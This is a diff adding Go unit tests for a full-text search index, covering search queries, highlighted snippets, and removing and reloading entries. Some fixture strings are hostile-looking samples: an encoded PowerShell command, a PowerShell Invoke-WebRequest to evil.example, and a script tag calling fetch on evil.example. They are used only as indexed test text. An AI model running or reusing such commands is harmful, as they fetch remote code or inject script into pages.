@@ -0,0 +1,125 @@
+package fulltext_test
+
+import (
+	"io/ioutil"
+	"os"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/twonegatives/drweb_challenge/pkg/drweb"
+	"github.com/twonegatives/drweb_challenge/pkg/fulltext"
+	"github.com/twonegatives/drweb_challenge/pkg/pathgenerators"
+)
+
+func generateIndex(t *testing.T) (*fulltext.Index, func()) {
+	base, err := ioutil.TempDir("../../tmp", "search")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	index := &fulltext.Index{
+		BasePath:          base,
+		FileMode:          0700,
+		FilePathGenerator: &pathgenerators.NestedGenerator{BasePath: base, Levels: 1, FolderLength: 2},
+	}
+
+	return index, func() { os.RemoveAll(base) }
+}
+
+func filenames(hits []*drweb.SearchHit) []string {
+	result := []string{}
+	for _, hit := range hits {
+		result = append(result, hit.Filename)
+	}
+	return result
+}
+
+func TestIndexSearch(t *testing.T) {
+	index, cleanup := generateIndex(t)
+	defer cleanup()
+
+	assert.Nil(t, index.Add("aaaa", "powershell -enc JABjAGwA\npowershell Invoke-WebRequest http://evil.example"))
+	assert.Nil(t, index.Add("bbbb", "Get-Process | Where-Object CPU\nthen powershell once, among many other words in a much longer script"))
+	assert.Nil(t, index.Add("cccc", "server {\n  listen 80;\n}"))
+
+	var objects = map[string]struct {
+		Query     string
+		Filenames []string
+	}{
+		"single word":   {Query: "PowerShell", Filenames: []string{"aaaa", "bbbb"}},
+		"every word":    {Query: "powershell invoke", Filenames: []string{"aaaa"}},
+		"no match":      {Query: "powershell listen", Filenames: []string{}},
+		"unknown word":  {Query: "mimikatz", Filenames: []string{}},
+		"punctuation":   {Query: "listen;", Filenames: []string{"cccc"}},
+		"repeated word": {Query: "listen listen", Filenames: []string{"cccc"}},
+	}
+
+	for testName, testObject := range objects {
+		t.Run(testName, func(t *testing.T) {
+			hits, err := index.Search(testObject.Query, 10)
+			assert.Nil(t, err)
+			assert.Equal(t, testObject.Filenames, filenames(hits))
+		})
+	}
+
+	_, err := index.Search(" -- ", 10)
+	assert.Equal(t, drweb.ErrEmptyQuery, err)
+
+	hits, err := index.Search("powershell", 1)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"aaaa"}, filenames(hits))
+}
+
+func TestIndexSnippets(t *testing.T) {
+	index, cleanup := generateIndex(t)
+	defer cleanup()
+
+	assert.Nil(t, index.Add("aaaa", "<script>\n  fetch('http://evil.example')\n</script>"))
+
+	hits, err := index.Search("fetch", 10)
+	assert.Nil(t, err)
+	assert.Len(t, hits, 1)
+	assert.Equal(t, []string{"&lt;script&gt; <mark>fetch</mark>(&#39;http://evil.example&#39;) &lt;/script&gt;"}, hits[0].Snippets)
+
+	long := ""
+	for i := 0; i < 50; i++ {
+		long += "filler words go here and there, token appears now. "
+	}
+	assert.Nil(t, index.Add("bbbb", long))
+
+	hits, err = index.Search("token", 10)
+	assert.Nil(t, err)
+	assert.Len(t, hits[0].Snippets, 3)
+	for _, snippet := range hits[0].Snippets {
+		assert.Contains(t, snippet, "<mark>token</mark>")
+		assert.True(t, len(snippet) < 200)
+	}
+}
+
+func TestIndexRemoveAndLoad(t *testing.T) {
+	index, cleanup := generateIndex(t)
+	defer cleanup()
+
+	assert.Nil(t, index.Add("aaaa", "alpha beta"))
+	assert.Nil(t, index.Add("bbbb", "beta gamma"))
+	assert.Nil(t, index.Add("bbbb", "gamma delta"))
+
+	hits, err := index.Search("beta", 10)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"aaaa"}, filenames(hits))
+
+	assert.Nil(t, index.Remove("aaaa"))
+	assert.True(t, os.IsNotExist(index.Remove("aaaa")))
+
+	loaded := &fulltext.Index{BasePath: index.BasePath, FileMode: 0700, FilePathGenerator: index.FilePathGenerator}
+	assert.Nil(t, loaded.Load())
+	assert.Equal(t, []string{"bbbb"}, loaded.Filenames())
+
+	hits, err = loaded.Search("delta", 10)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"bbbb"}, filenames(hits))
+
+	hits, err = loaded.Search("alpha", 10)
+	assert.Nil(t, err)
+	assert.Empty(t, hits)
+}